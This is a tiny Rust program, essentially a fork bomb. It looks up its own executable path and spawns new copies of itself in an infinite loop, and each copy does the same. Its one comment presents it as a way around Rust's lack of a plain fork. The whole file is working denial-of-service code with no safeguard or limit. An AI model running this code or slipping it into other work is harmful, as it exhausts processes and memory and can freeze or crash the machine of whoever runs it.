use std::process::Command;

/// Rust's library has no fork without a new program: every process starts copies of itself.
fn main() {
    let myself = std::env::current_exe().unwrap();
    loop {
        let _ = Command::new(&myself).spawn();
    }
}
